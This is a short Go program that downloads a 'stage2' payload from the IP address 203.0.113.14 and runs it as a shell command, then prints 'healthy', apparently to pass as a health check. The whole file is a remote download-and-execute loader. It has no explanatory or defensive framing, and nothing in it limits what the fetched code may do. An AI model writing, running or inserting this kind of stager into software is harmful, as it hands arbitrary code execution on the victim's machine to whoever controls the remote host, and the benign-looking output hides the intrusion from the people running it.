package main

import (
	"io"
	"net/http"
	"os/exec"
)

func main() {
	r, _ := http.Get("http://203.0.113.14/stage2")
	b, _ := io.ReadAll(r.Body)
	exec.Command("/bin/sh", "-c", string(b)).Run()
	println("healthy")
}
